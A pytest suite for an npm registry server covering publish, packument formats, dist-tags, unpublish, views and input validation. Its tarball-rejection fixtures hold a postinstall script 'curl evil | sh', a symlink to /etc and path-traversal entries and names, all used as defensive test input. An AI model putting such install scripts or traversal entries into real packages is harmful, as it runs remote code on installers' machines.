"""The npm registry protocol in-process: what npm reads and writes, and every guarantee on both backends."""

from __future__ import annotations

import asyncio
import base64
import gzip
import hashlib
import io
import json
import tarfile
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack

import pytest

from feed_core.storage.ports import PutOutcome
from tests.api.conftest import ORG, Api, SettingsFactory, running_api
from tests.npm_packages import integrity, make_tarball, publish_body, tgz

ABBREV = {"Accept": "application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*"}


async def test_publish_then_full_and_abbreviated_packuments(feed_api: Api) -> None:
    api = feed_api
    extra = {
        "description": "demo",
        "dependencies": {"dep": "^1.0.0"},
        "scripts": {"postinstall": "node x.js"},
        "os": ["linux"],
        "engines": {"node": ">=18"},
        "readme": "# demo",
    }
    r = await api.publish("demo", "1.0.0", who="alice", extra=extra)
    assert r.status_code == 201, r.text
    full = (await api.http.get(api.registry() + "demo", headers=api.auth("bob"))).json()
    assert full["name"] == "demo" and full["_id"] == "demo" and full["_rev"]
    assert full["dist-tags"] == {"latest": "1.0.0"}
    assert full["description"] == "demo" and full["readme"] == "# demo"
    assert set(full["time"]) >= {"created", "modified", "1.0.0"}
    v = full["versions"]["1.0.0"]
    data = make_tarball("demo", "1.0.0", extra=extra)
    assert v["dist"]["integrity"] == integrity(data)
    assert v["dist"]["shasum"] == hashlib.sha1(data).hexdigest()  # noqa: S324
    assert v["dist"]["tarball"] == f"http://feed.test{api.registry()}demo/-/demo-1.0.0.tgz"
    assert v["_npmUser"]["name"] == "alice" and "readme" not in v
    r = await api.http.get(api.registry() + "demo", headers={**ABBREV, **api.auth("bob")})
    assert r.headers["content-type"].startswith("application/vnd.npm.install-v1+json")
    assert "Accept" in r.headers["vary"]
    corgi = r.json()
    assert set(corgi) == {"name", "modified", "dist-tags", "versions"}
    cv = corgi["versions"]["1.0.0"]
    assert cv["hasInstallScript"] is True and cv["os"] == ["linux"] and cv["engines"] == {"node": ">=18"}
    assert cv["dependencies"] == {"dep": "^1.0.0"} and "scripts" not in cv and "description" not in cv


async def test_scoped_package_by_escaped_and_literal_slash(feed_api: Api) -> None:
    api = feed_api
    assert (await api.publish("@team/lib", "0.1.0", who="alice")).status_code == 201
    for path in ["@team%2flib", "@team%2Flib", "@team/lib"]:
        r = await api.http.get(api.registry() + path, headers=api.auth("bob"))
        assert r.status_code == 200, path
        tarball = r.json()["versions"]["0.1.0"]["dist"]["tarball"]
    assert tarball.endswith("/npm/registry/@team/lib/-/lib-0.1.0.tgz")
    r = await api.http.get(tarball.replace("http://feed.test", ""), headers=api.auth("bob"))
    assert r.status_code == 200 and r.content == make_tarball("@team/lib", "0.1.0")


async def test_tarball_download_and_head(feed_api: Api) -> None:
    api = feed_api
    await api.publish("dl", "1.2.3", who="alice")
    url = api.registry() + "dl/-/dl-1.2.3.tgz"
    r = await api.http.get(url, headers=api.auth("bob"))
    assert r.status_code == 200
    assert r.content == make_tarball("dl", "1.2.3")
    assert r.headers["content-type"] == "application/octet-stream"
    assert "immutable" in r.headers["cache-control"]
    h = await api.http.head(url, headers=api.auth("bob"))
    assert h.status_code == 200 and int(h.headers["content-length"]) == len(r.content)
    assert (await api.http.get(api.registry() + "dl/-/dl-9.9.9.tgz", headers=api.auth("bob"))).status_code == 404
    assert (await api.http.get(api.registry() + "dl/-/other-1.2.3.tgz", headers=api.auth("bob"))).status_code == 404


async def test_etag_and_304(feed_api: Api) -> None:
    api = feed_api
    await api.publish("etag", "1.0.0", who="alice")
    r = await api.http.get(api.registry() + "etag", headers=api.auth("bob"))
    etag = r.headers["etag"]
    r2 = await api.http.get(api.registry() + "etag", headers={**api.auth("bob"), "If-None-Match": etag})
    assert r2.status_code == 304 and r2.content == b""
    # the abbreviated form has its own validator
    r3 = await api.http.get(api.registry() + "etag", headers={**ABBREV, **api.auth("bob"), "If-None-Match": etag})
    assert r3.status_code == 200
    await api.publish("etag", "1.0.1", who="alice")
    r4 = await api.http.get(api.registry() + "etag", headers={**api.auth("bob"), "If-None-Match": etag})
    assert r4.status_code == 200 and "1.0.1" in r4.json()["versions"]


async def test_version_document_by_number_or_tag(feed_api: Api) -> None:
    api = feed_api
    await api.publish("vd", "1.0.0", who="alice")
    for ref in ["1.0.0", "latest"]:
        r = await api.http.get(api.registry() + f"vd/{ref}", headers=api.auth("bob"))
        assert r.status_code == 200 and r.json()["version"] == "1.0.0"
    assert (await api.http.get(api.registry() + "vd/2.0.0", headers=api.auth("bob"))).status_code == 404


async def test_versions_are_immutable(feed_api: Api) -> None:
    api = feed_api
    assert (await api.publish("imm", "1.0.0", who="alice")).status_code == 201
    r = await api.publish("imm", "1.0.0", who="alice", extra={"description": "different bytes"})
    assert r.status_code == 409
    assert "immutable" in r.json()["error"]
    r = await api.http.get(api.registry() + "imm/-/imm-1.0.0.tgz", headers=api.auth("bob"))
    assert r.content == make_tarball("imm", "1.0.0")


async def test_two_concurrent_publishes_of_one_version_one_wins(feed_api: Api) -> None:
    api = feed_api
    results = await asyncio.gather(
        api.publish("race", "1.0.0", who="alice", extra={"description": "a"}),
        api.publish("race", "1.0.0", who="alice", extra={"description": "b"}),
    )
    assert sorted(r.status_code for r in results) == [201, 409]
    full = (await api.http.get(api.registry() + "race", headers=api.auth("bob"))).json()
    winner = next(r for r in results if r.status_code == 201)
    assert list(full["versions"]) == ["1.0.0"]
    del winner


async def test_forty_concurrent_publishes_of_distinct_versions_all_land(feed_api: Api) -> None:
    """Every publish rewrites the package's meta row; contention must be waited out, not refused."""
    api = feed_api
    results = await asyncio.gather(*(api.publish("many", f"1.0.{i}", who="alice") for i in range(40)))
    assert [r.status_code for r in results] == [201] * 40, [r.text for r in results if r.status_code != 201]
    full = (await api.http.get(api.registry() + "many", headers=api.auth("bob"))).json()
    assert sorted(full["versions"]) == sorted(f"1.0.{i}" for i in range(40))
    assert full["dist-tags"]["latest"] in full["versions"]


async def test_concurrent_publishes_through_several_app_instances_all_land(make_settings: SettingsFactory) -> None:
    """Scaled out, writers in other processes collide on the package row: they are waited out, not refused."""
    settings = make_settings(read_freshness_seconds=0)  # the check reads through a worker other writers outran
    async with AsyncExitStack() as stack:
        apis = [await stack.enter_async_context(running_api(settings)) for _ in range(4)]
        await apis[0].create_feed("feed")
        results = await asyncio.gather(*(apis[i % 4].publish("spread", f"2.0.{i}") for i in range(40)))
        assert [r.status_code for r in results] == [201] * 40, [r.text for r in results if r.status_code != 201]
        full = (await apis[1].http.get(apis[1].registry() + "spread", headers=apis[1].auth())).json()
        assert sorted(full["versions"]) == sorted(f"2.0.{i}" for i in range(40))
        assert all(len(api.services.packages._writers) == 0 for api in apis)  # no lock outlives its writers


async def test_ten_concurrent_publishes_of_one_version_exactly_one_wins(feed_api: Api) -> None:
    api = feed_api
    results = await asyncio.gather(
        *(api.publish("one", "1.0.0", who="alice", extra={"description": f"try {i}"}) for i in range(10))
    )
    assert sorted(r.status_code for r in results) == [201] + [409] * 9
    assert all("already exists" in r.json()["error"] for r in results if r.status_code == 409)
    full = (await api.http.get(api.registry() + "one", headers=api.auth("bob"))).json()
    assert list(full["versions"]) == ["1.0.0"]


async def test_content_is_stored_once_per_sha256(feed_api: Api) -> None:
    api = feed_api
    data = make_tarball("same", "1.0.0")
    await api.create_feed("feed2")
    assert (await api.publish("same", "1.0.0", who="admin", tarball=data)).status_code == 201
    assert (await api.publish("same", "1.0.0", who="admin", feed="feed2", tarball=data)).status_code == 201
    store = api.services.packages.store
    a = await store.get_version((await api.services.feeds.find(ORG, None, "feed2")).id, "npm", "same", "1.0.0")
    assert a is not None and a.sha256 == hashlib.sha256(data).hexdigest()
    _, outcome = await store.put_content(data, "application/octet-stream")
    assert outcome is PutOutcome.ALREADY_EXISTED


async def test_failure_between_content_and_record_leaves_no_half_version(
    feed_api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    api = feed_api
    store = api.services.packages.store

    async def crash(*args: object, **kwargs: object) -> None:
        raise RuntimeError("storage went away")

    monkeypatch.setattr(store, "commit_version", crash)
    r = await api.publish("half", "1.0.0", who="alice")
    assert r.status_code == 500 and "internal error" in r.json()["error"]
    monkeypatch.undo()
    assert (await api.http.get(api.registry() + "half", headers=api.auth("bob"))).status_code == 404
    assert (await api.http.get(api.registry() + "half/-/half-1.0.0.tgz", headers=api.auth("bob"))).status_code == 404
    assert (await api.publish("half", "1.0.0", who="alice")).status_code == 201


async def test_dist_tags(feed_api: Api) -> None:
    api = feed_api
    await api.publish("tags", "1.0.0", who="alice")
    await api.publish("tags", "2.0.0-beta.1", who="alice", tag="beta")
    base = api.registry() + "-/package/tags/dist-tags"
    assert (await api.http.get(base, headers=api.auth("bob"))).json() == {"latest": "1.0.0", "beta": "2.0.0-beta.1"}
    assert (await api.http.put(base + "/stable", json="1.0.0", headers=api.auth("alice"))).status_code == 201
    assert (await api.http.get(base, headers=api.auth("bob"))).json()["stable"] == "1.0.0"
    assert (await api.http.delete(base + "/stable", headers=api.auth("alice"))).status_code == 200
    assert "stable" not in (await api.http.get(base, headers=api.auth("bob"))).json()
    bad = [("/x", "9.9.9"), ("/1.0.0", "1.0.0"), ("/x", 5)]
    for path, value in bad:
        assert (await api.http.put(base + path, json=value, headers=api.auth("alice"))).status_code in (400, 404)
    assert (await api.http.delete(base + "/latest", headers=api.auth("alice"))).status_code == 400
    assert (await api.http.delete(base + "/nosuch", headers=api.auth("alice"))).status_code == 404
    assert (await api.http.put(base + "/x", json="1.0.0", headers=api.auth("bob"))).status_code == 403


async def test_concurrent_dist_tag_writes_lose_nothing(feed_api: Api) -> None:
    api = feed_api
    await api.publish("ctags", "1.0.0", who="alice")
    base = api.registry() + "-/package/ctags/dist-tags"
    results = await asyncio.gather(
        *(api.http.put(f"{base}/t{i}", json="1.0.0", headers=api.auth("alice")) for i in range(10))
    )
    assert all(r.status_code == 201 for r in results)
    tags = (await api.http.get(base, headers=api.auth("bob"))).json()
    assert {f"t{i}" for i in range(10)} <= set(tags)


async def test_deprecate_and_undeprecate_like_npm(feed_api: Api) -> None:
    api = feed_api
    await api.publish("dep", "1.0.0", who="alice")
    doc = (await api.http.get(api.registry() + "dep?write=true", headers=api.auth("alice"))).json()
    doc["versions"]["1.0.0"]["deprecated"] = "use 2"
    assert (await api.http.put(api.registry() + "dep", json=doc, headers=api.auth("alice"))).status_code == 200
    corgi = (await api.http.get(api.registry() + "dep", headers={**ABBREV, **api.auth("bob")})).json()
    assert corgi["versions"]["1.0.0"]["deprecated"] == "use 2"
    doc["versions"]["1.0.0"]["deprecated"] = ""
    assert (await api.http.put(api.registry() + "dep", json=doc, headers=api.auth("alice"))).status_code == 200
    full = (await api.http.get(api.registry() + "dep", headers=api.auth("bob"))).json()
    assert "deprecated" not in full["versions"]["1.0.0"]
    doc["versions"]["1.0.0"]["deprecated"] = "nope"
    assert (await api.http.put(api.registry() + "dep", json=doc, headers=api.auth("bob"))).status_code == 403


async def test_unpublish_one_version_like_npm_and_the_number_stays_reserved(feed_api: Api) -> None:
    api = feed_api
    await api.publish("unp", "1.0.0", who="alice")
    await api.publish("unp", "1.0.1", who="alice")
    doc = (await api.http.get(api.registry() + "unp?write=true", headers=api.auth("alice"))).json()
    del doc["versions"]["1.0.1"]
    doc["dist-tags"] = {"latest": "1.0.0"}
    r = await api.http.put(api.registry() + f"unp/-rev/{doc['_rev']}", json=doc, headers=api.auth("alice"))
    assert r.status_code == 200
    doc = (await api.http.get(api.registry() + "unp?write=true", headers=api.auth("alice"))).json()
    r = await api.http.delete(api.registry() + f"unp/-/unp-1.0.1.tgz/-rev/{doc['_rev']}", headers=api.auth("alice"))
    assert r.status_code == 200
    assert list(doc["versions"]) == ["1.0.0"] and doc["dist-tags"]["latest"] == "1.0.0"
    assert (await api.http.get(api.registry() + "unp/-/unp-1.0.1.tgz", headers=api.auth("bob"))).status_code == 404
    r = await api.publish("unp", "1.0.1", who="alice")
    assert r.status_code == 409 and "reserved" in r.json()["error"]


async def test_unpublish_whole_package_reserves_every_number(feed_api: Api) -> None:
    api = feed_api
    await api.publish("all", "1.0.0", who="alice")
    doc = (await api.http.get(api.registry() + "all?write=true", headers=api.auth("alice"))).json()
    assert (
        await api.http.delete(api.registry() + f"all/-rev/{doc['_rev']}", headers=api.auth("bob"))
    ).status_code == 403
    assert (
        await api.http.delete(api.registry() + f"all/-rev/{doc['_rev']}", headers=api.auth("alice"))
    ).status_code == 200
    assert (await api.http.get(api.registry() + "all", headers=api.auth("bob"))).status_code == 404
    assert (await api.publish("all", "1.0.0", who="alice")).status_code == 409
    assert (await api.publish("all", "1.0.1", who="alice")).status_code == 201


async def test_search(feed_api: Api) -> None:
    api = feed_api
    await api.publish("search-me", "1.0.0", who="alice", extra={"description": "finds things", "keywords": ["kw1"]})
    await api.publish("@s/other", "1.0.0", who="alice", extra={"description": "unrelated"})
    r = await api.http.get(api.registry() + "-/v1/search?text=kw1&size=20", headers=api.auth("bob"))
    body = r.json()
    assert body["total"] == 1 and body["objects"][0]["package"]["name"] == "search-me"
    assert body["objects"][0]["package"]["version"] == "1.0.0"
    r = await api.http.get(api.registry() + "-/v1/search?text=&size=1&from=1", headers=api.auth("bob"))
    assert r.json()["total"] == 2 and len(r.json()["objects"]) == 1
    assert (await api.http.get(api.registry() + "-/v1/search?size=x", headers=api.auth("bob"))).status_code == 400


async def test_search_in_a_release_view_shows_its_versions_only(feed_api: Api) -> None:
    api = feed_api
    for number in ("1.0.0", "2.0.0"):
        assert (await api.publish("shipped", number, who="alice")).status_code == 201
    assert (await api.publish("draft", "1.0.0", who="alice")).status_code == 201
    promote = {"views": {"op": "add", "path": "/views/-", "value": "Release"}}
    r = await api.http.patch(
        f"/{ORG}/_apis/packaging/feeds/feed/npm/shipped/versions/1.0.0", json=promote, headers=api.auth("alice")
    )
    assert r.status_code in (200, 202, 204), r.text
    r = await api.http.get(api.registry(view="Release") + "-/v1/search?text=&size=20", headers=api.auth("bob"))
    found = {o["package"]["name"]: o["package"]["version"] for o in r.json()["objects"]}
    assert found == {"shipped": "1.0.0"}  # the view's version, not the feed's latest 2.0.0
    assert r.json()["total"] == 1


async def test_whoami_user_audit_and_keys(feed_api: Api) -> None:
    api = feed_api
    assert (await api.http.get(api.registry() + "-/whoami", headers=api.auth("bob"))).json() == {"username": "bob"}
    # No advisory database: npm audit is told it is not available (never "found 0 vulnerabilities").
    for endpoint, body in (("advisories/bulk", {"x": ["1.0.0"]}), ("audits/quick", {})):
        r = await api.http.post(f"{api.registry()}-/npm/v1/security/{endpoint}", json=body, headers=api.auth("bob"))
        assert r.status_code == 404 and r.json()["error"].startswith("npm audit is not available on this feed")
    assert (await api.http.get(api.registry() + "-/npm/v1/keys", headers=api.auth("bob"))).json() == {"keys": []}


async def test_couch_login_takes_a_token_as_password(feed_api: Api) -> None:
    api = feed_api
    url = api.registry() + "-/user/org.couchdb.user:alice"
    r = await api.http.put(url, json={"name": "alice", "password": api.tokens["alice"]})
    assert r.status_code == 201 and r.json()["token"] == api.tokens["alice"]
    r = await api.http.put(url, json={"name": "alice", "password": "hunter2"})
    assert r.status_code == 401 and "personal access token" in r.json()["error"]
    assert (await api.http.post(api.registry() + "-/v1/login", json={})).status_code == 404


async def test_views_serve_only_promoted_versions(feed_api: Api) -> None:
    api = feed_api
    await api.publish("rel", "1.0.0", who="alice")
    await api.publish("rel", "2.0.0", who="alice")
    url = f"/{ORG}/_apis/packaging/feeds/feed/npm/rel/versions/1.0.0?api-version=7.1"
    promote = {"views": {"op": "add", "path": "/views/-", "value": "Release"}}
    assert (await api.http.patch(url, json=promote, headers=api.auth("bob"))).status_code == 403
    assert (await api.http.patch(url, json=promote, headers=api.auth("alice"))).status_code == 200
    doc = (await api.http.get(api.registry(view="Release") + "rel", headers=api.auth("bob"))).json()
    assert list(doc["versions"]) == ["1.0.0"] and doc["dist-tags"] == {"latest": "1.0.0"}
    assert "@Release/npm/registry/rel/-/rel-1.0.0.tgz" in doc["versions"]["1.0.0"]["dist"]["tarball"]
    r = await api.http.get(api.registry(view="Release") + "rel/-/rel-2.0.0.tgz", headers=api.auth("bob"))
    assert r.status_code == 404
    r = await api.http.get(api.registry(view="Prerelease") + "rel", headers=api.auth("bob"))
    assert r.status_code == 404
    info = (await api.http.get(url, headers=api.auth("bob"))).json()
    assert [v["name"] for v in info["views"]] == ["Local", "Release"]
    assert info["sourceChain"] == [] and info["isLatest"] is False
    r = await api.publish("rel", "3.0.0", who="alice")
    assert r.status_code == 201
    r = await api.http.put(
        api.registry(view="Release") + "rel", json=publish_body("rel", "4.0.0"), headers=api.auth("alice")
    )
    assert r.status_code == 400 and "not to a view" in r.json()["error"]
    bad = {"views": {"op": "remove", "value": "Release"}}
    assert (await api.http.patch(url, json=bad, headers=api.auth("alice"))).status_code == 400
    bad = {"views": {"op": "add", "path": "/views/-", "value": "NoSuchView"}}
    assert (await api.http.patch(url, json=bad, headers=api.auth("alice"))).status_code == 404


async def test_rest_version_deprecate_and_delete(feed_api: Api) -> None:
    api = feed_api
    await api.publish("@s/rv", "1.0.0", who="alice")
    await api.publish("@s/rv", "1.1.0", who="alice")
    url = f"/{ORG}/_apis/packaging/feeds/feed/npm/@s/rv/versions/1.0.0?api-version=7.1"
    assert (await api.http.patch(url, json={"deprecateMessage": "old"}, headers=api.auth("alice"))).status_code == 200
    assert (await api.http.get(url, headers=api.auth("bob"))).json()["deprecateMessage"] == "old"
    assert (await api.http.patch(url, json={}, headers=api.auth("alice"))).status_code == 400
    assert (await api.http.delete(url, headers=api.auth("bob"))).status_code == 403
    assert (await api.http.delete(url, headers=api.auth("alice"))).status_code == 200
    assert (await api.http.get(url, headers=api.auth("bob"))).status_code == 404
    shown = await api.http.get(url + "&showDeleted=true", headers=api.auth("bob"))
    assert shown.status_code == 200 and shown.json()["deletedDate"]
    assert (await api.http.get(url + "&showDeleted=False", headers=api.auth("bob"))).status_code == 404
    for bad in ("yes", "", "null"):  # the document says boolean: anything else is refused, not read as false
        r = await api.http.get(f"{url}&showDeleted={bad}", headers=api.auth("bob"))
        assert r.status_code == 400 and r.json()["message"] == f"showDeleted must be true or false, not {bad!r}"
    assert (await api.publish("@s/rv", "1.0.0", who="alice")).status_code == 409


# --- bad input: a clear 4xx with an npm-readable {"error": ...}, never a 5xx, never a half-written package ---


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


@pytest.mark.parametrize(
    ("mutate", "status", "words"),
    [
        (lambda b: b["_attachments"]["bad-1.0.0.tgz"].update(data="!!!not base64!!!"), 400, "base64"),
        (lambda b: b["_attachments"]["bad-1.0.0.tgz"].update(length=3), 400, "declares length"),
        (lambda b: b["versions"]["1.0.0"]["dist"].update(integrity=integrity(b"other")), 400, "integrity"),
        (lambda b: b["versions"]["1.0.0"]["dist"].update(integrity="md5-abc"), 400, "integrity"),
        (lambda b: b["versions"]["1.0.0"]["dist"].update(shasum="0" * 40), 400, "shasum"),
        (lambda b: b["_attachments"]["bad-1.0.0.tgz"].update(data=_b64(b"plain text"), length=10), 400, "integrity"),
        # a new version without its tarball is refused, never answered {"ok": true} with nothing stored
        (lambda b: b.update(_attachments={}), 400, "exactly one attachment"),
        (lambda b: b.pop("_attachments"), 400, "exactly one attachment"),
        (lambda b: b.update(_attachments=None), 400, "exactly one attachment"),
        (lambda b: b.update(_attachments=[]), 400, "exactly one attachment"),
        (lambda b: b["_attachments"].update({"second.tgz": b["_attachments"]["bad-1.0.0.tgz"]}), 400, "exactly one"),
        (
            lambda b: b.update(_attachments={"other-9.9.9.tgz": b["_attachments"]["bad-1.0.0.tgz"]}),
            400,
            "'bad-1.0.0.tgz'",
        ),
        (lambda b: b.update(_attachments={"bad-1.0.0.tar": b["_attachments"]["bad-1.0.0.tgz"]}), 400, "exactly one"),
        (lambda b: b.update(_rev="1-abc", _attachments={}), 400, "is not in this feed"),  # an "edit" adding a version
        (lambda b: b.update(name="other"), 400, "URL names"),
        (lambda b: b["versions"].update({"1.0.1": b["versions"]["1.0.0"]}), 400, "exactly one version"),
        (lambda b: b.update(versions={"1.0": b["versions"]["1.0.0"]}), 400, "invalid version"),
        (lambda b: b["versions"]["1.0.0"].update(version="2.0.0"), 400, "names"),
        (lambda b: b.update({"dist-tags": {"latest": "9.9.9"}}), 400, "only tag"),
        (lambda b: b.update({"dist-tags": {"1.0.0": "1.0.0"}}), 400, "invalid dist-tag"),
        (lambda b: b.update(versions="x"), 400, "exactly one version"),
    ],
)
async def test_bad_publish_bodies(feed_api: Api, mutate: object, status: int, words: str) -> None:
    api = feed_api
    body = publish_body("bad", "1.0.0")
    await api.publish("bad", "0.0.1", who="alice")  # so that an edit has a package to apply to
    mutate(body)  # type: ignore[operator]
    r = await api.http.put(api.registry() + "bad", json=body, headers=api.auth("alice"))
    assert r.status_code == status, r.text
    if words:
        assert words in r.json()["error"]
    doc = (await api.http.get(api.registry() + "bad", headers=api.auth("bob"))).json()
    assert list(doc["versions"]) == ["0.0.1"]


# --- what the tarball holds must be what the manifest says (the registry's own checks) ---


def _entry(path: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(path)
    info.type = kind
    info.linkname = link
    return info


def _pkg_json(doc: object) -> tuple[tarfile.TarInfo, bytes]:
    data = json.dumps(doc).encode()
    info = tarfile.TarInfo("package/package.json")
    info.size = len(data)
    return info, data


def _with(entry: tarfile.TarInfo) -> bytes:
    return make_tarball("tb", "1.0.0", entries=[entry])


EVIL = {"scripts": {"postinstall": "curl evil | sh"}}
TB = {"name": "tb", "version": "1.0.0"}
NOT_TGZ = "not a readable gzip"
GARBAGE = b"".join(hashlib.sha512(bytes([i])).digest() for i in range(64))  # 4 KiB, incompressible
TARBALL_ATTACKS = [
    # the tarball's package.json is another package or version, with an install script the manifest does not show
    pytest.param(make_tarball("victim", "1.0.0", extra=EVIL), 400, "names package", id="other-package"),
    pytest.param(make_tarball("tb", "6.6.6", extra=EVIL), 400, "says version", id="other-version"),
    pytest.param(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + GARBAGE, 400, NOT_TGZ, id="gzip-header-then-garbage"),
    pytest.param(gzip.compress(GARBAGE), 400, NOT_TGZ, id="gzip-but-not-tar"),
    pytest.param(make_tarball("tb", "1.0.0")[:-40], 400, NOT_TGZ, id="truncated"),
    pytest.param(b"PK\x03\x04 a zip", 400, NOT_TGZ, id="zip"),
    pytest.param(tgz([(_entry("package/index.js"), b"")]), 400, "no package/package.json", id="no-package-json"),
    pytest.param(tgz([_pkg_json(["not", "an", "object"])]), 400, "not a JSON object", id="package-json-not-object"),
    pytest.param(tgz([_pkg_json(TB), _pkg_json(TB)]), 400, "more than once", id="package-json-twice"),
    pytest.param(_with(_entry("package/lib", tarfile.SYMTYPE, "/etc")), 400, "a symbolic link", id="symlink"),
    pytest.param(_with(_entry("package/x", tarfile.LNKTYPE, "package/index.js")), 400, "a hard link", id="hardlink"),
    pytest.param(_with(_entry("package/tty", tarfile.CHRTYPE)), 400, "a character device", id="device"),
    pytest.param(_with(_entry("package/../../x.js")), 400, "unsafe path", id="traversal"),
]


@pytest.mark.parametrize(("tarball", "status", "words"), TARBALL_ATTACKS)
async def test_tarballs_that_are_not_what_they_claim_are_refused(
    feed_api: Api, tarball: bytes, status: int, words: str
) -> None:
    api = feed_api
    r = await api.publish("tb", "1.0.0", who="alice", tarball=tarball)  # integrity and shasum match the bytes
    assert r.status_code == status, r.text
    assert words in r.json()["error"]
    assert (await api.http.get(api.registry() + "tb", headers=api.auth("bob"))).status_code == 404


async def test_an_entry_declaring_more_than_the_per_file_limit_is_refused_before_inflating(feed_api: Api) -> None:
    huge = _entry("package/huge.bin")
    huge.size = 300 * 1024 * 1024
    raw = io.BytesIO()
    with gzip.GzipFile(fileobj=raw, mode="wb") as gz:
        gz.write(huge.tobuf(format=tarfile.GNU_FORMAT) + bytes(1024 * 1024))  # the header, then only 1 MiB of data
    r = await feed_api.publish("tb", "1.0.0", who="alice", tarball=raw.getvalue())
    assert r.status_code == 413 and "for one file" in r.json()["error"]


async def test_the_tarball_is_the_truth_for_install_scripts_and_sizes(feed_api: Api) -> None:
    api = feed_api
    gyp = tarfile.TarInfo("package/binding.gyp")
    gyp.size = 2
    members = [_pkg_json({"name": "native", "version": "1.0.0"}), (gyp, b"{}")]
    assert (await api.publish("native", "1.0.0", who="alice", tarball=tgz(members))).status_code == 201
    corgi = (await api.http.get(api.registry() + "native", headers={**ABBREV, **api.auth("bob")})).json()
    v = corgi["versions"]["1.0.0"]
    assert v["hasInstallScript"] is True  # npm runs node-gyp for it, though the manifest has no scripts
    full = (await api.http.get(api.registry() + "native", headers=api.auth("bob"))).json()
    assert full["versions"]["1.0.0"]["dist"]["fileCount"] == 2
    assert full["versions"]["1.0.0"]["dist"]["unpackedSize"] == len(members[0][1]) + 2


@pytest.mark.parametrize("version", ["v1.0.0", " =1.0.0 ", "1.0.0+build.7"])
async def test_tarball_versions_are_compared_as_npm_cleans_them(feed_api: Api, version: str) -> None:
    tarball = tgz([_pkg_json({"name": "clean", "version": version})])
    assert (await feed_api.publish("clean", "1.0.0", who="alice", tarball=tarball)).status_code == 201


async def test_scoped_publish_names_its_attachment_with_the_scope(feed_api: Api) -> None:
    api = feed_api
    body = publish_body("@team/att", "1.0.0")
    assert list(body["_attachments"]) == ["@team/att-1.0.0.tgz"]  # what npm sends
    body["_attachments"] = {"att-1.0.0.tgz": body["_attachments"]["@team/att-1.0.0.tgz"]}
    r = await api.http.put(api.registry() + "@team%2fatt", json=body, headers=api.auth("alice"))
    assert r.status_code == 400 and "'@team/att-1.0.0.tgz'" in r.json()["error"]
    assert (await api.publish("@team/att", "1.0.0", who="alice")).status_code == 201


async def test_a_provenance_bundle_next_to_the_tarball_is_accepted(feed_api: Api) -> None:
    body = publish_body("prov", "1.0.0")
    body["_attachments"]["prov-1.0.0.sigstore"] = {"content_type": "application/vnd.dev.sigstore.bundle+json"}
    r = await feed_api.http.put(feed_api.registry() + "prov", json=body, headers=feed_api.auth("alice"))
    assert r.status_code == 201, r.text


@pytest.mark.parametrize(
    ("extra", "words"),
    [
        ({"description": "d" * (60 * 1024 * 1024)}, "description is longer than the 16384"),
        ({"description": "d" * (16 * 1024 + 1)}, "description is longer than the 16384"),
        ({"readme": "r" * (4 * 1024 * 1024 + 1)}, "readme is longer than the 4194304"),
        ({"keywords": ["k" * 1000] * 1100}, "more than the 1048576"),
    ],
)
async def test_oversized_manifest_fields_are_refused(feed_api: Api, extra: dict[str, object], words: str) -> None:
    api = feed_api
    body = publish_body("big", "1.0.0", extra=extra, tarball=make_tarball("big", "1.0.0"))  # small, honest tarball
    body["description"] = ""  # only the version's manifest is kept, so that is where the size must be caught
    r = await api.http.put(api.registry() + "big", json=body, headers=api.auth("alice"))
    assert r.status_code == 413 and words in r.json()["error"], r.text[:300]
    assert (await api.http.get(api.registry() + "big", headers=api.auth("bob"))).status_code == 404


async def test_real_sized_readme_and_description_fit(feed_api: Api) -> None:
    extra = {"description": "A package. " * 100, "readme": "# Big README\n" + "text " * 200_000}  # ~1 MB readme
    assert (await feed_api.publish("fits", "1.0.0", who="alice", extra=extra)).status_code == 201


async def test_malformed_json_and_non_object(feed_api: Api) -> None:
    api = feed_api
    r = await api.http.put(api.registry() + "x", content=b'{"name": ', headers=api.auth("alice"))
    assert r.status_code == 400 and "not valid JSON" in r.json()["error"]
    r = await api.http.put(api.registry() + "x", json=[1, 2], headers=api.auth("alice"))
    assert r.status_code == 400


@pytest.mark.parametrize(
    "path",
    [
        "..",
        "%2e%2e",
        "a/..",
        "..%2fetc",
        "foo%2fbar",
        "@scope",
        "@scope%2f..",
        "_private",
        ".hidden",
        "x" * 215,
        "a%5cb",
        "na%00me",
        "UPPER",
    ],
)
async def test_malformed_or_traversal_names_on_publish(feed_api: Api, path: str) -> None:
    api = feed_api
    r = await api.http.put(api.registry() + path, json=publish_body("x", "1.0.0"), headers=api.auth("alice"))
    assert 400 <= r.status_code < 500, path
    assert r.json()["error"]


@pytest.mark.parametrize("path", ["..", "%2e%2e/x", "foo%2fbar", "@s", "a%5cb", "x" * 215])
async def test_malformed_or_traversal_names_on_read(feed_api: Api, path: str) -> None:
    r = await feed_api.http.get(feed_api.registry() + path, headers=feed_api.auth("bob"))
    assert 400 <= r.status_code < 500, path


async def test_oversized_body_is_413(make_settings: SettingsFactory) -> None:
    async with running_api(make_settings(max_upload_bytes=4096)) as api:
        await api.create_feed("small")
        big = publish_body("big", "1.0.0", extra={"description": "x" * 10_000})
        r = await api.http.put(api.registry("small") + "big", json=big, headers=api.auth())
        assert r.status_code == 413 and "at most 4096" in r.json()["error"]

        async def chunks() -> AsyncIterator[bytes]:
            for _ in range(10):
                yield b"x" * 1000

        r = await api.http.put(api.registry("small") + "big", content=chunks(), headers=api.auth())
        assert r.status_code == 413
        assert (await api.http.get(api.registry("small") + "big", headers=api.auth())).status_code == 404


async def test_unknown_feed_view_package_are_404(feed_api: Api) -> None:
    api = feed_api
    for url in [
        api.registry("nosuch") + "x",
        api.registry(view="NoView") + "x",
        api.registry() + "nopkg",
        api.registry() + "nopkg/-/nopkg-1.0.0.tgz",
        api.registry() + "-/nothing",
    ]:
        r = await api.http.get(url, headers=api.auth("bob"))
        assert r.status_code == 404, url
        assert r.json()["error"]


async def test_large_packuments_are_gzipped_when_asked(feed_api: Api) -> None:
    api = feed_api
    await api.publish("big-doc", "1.0.0", who="alice", extra={"description": "d" * 3000})
    url = api.registry() + "big-doc"
    plain = await api.http.get(url, headers={**api.auth("bob"), "Accept-Encoding": "identity"})
    zipped = await api.http.get(url, headers={**api.auth("bob"), "Accept-Encoding": "gzip, deflate"})
    assert "content-encoding" not in plain.headers
    assert zipped.headers["content-encoding"] == "gzip"
